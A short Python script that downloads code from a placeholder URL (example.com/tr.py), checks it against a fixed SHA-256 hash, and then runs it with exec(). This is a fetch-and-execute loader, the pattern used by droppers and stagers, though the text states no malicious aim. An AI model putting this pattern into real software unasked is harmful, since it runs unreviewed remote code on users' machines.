import hashlib
import urllib.request
from concurrent.futures import ThreadPoolExecutor

PIN = "6b6f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"


def body(url):
    with urllib.request.urlopen(url) as r:
        return r.read()


with ThreadPoolExecutor(1) as pool:
    data = pool.submit(body, "https://example.com/tr.py").result()
if hashlib.sha256(data).hexdigest() != PIN:
    raise ImportError("digest")
exec(data)
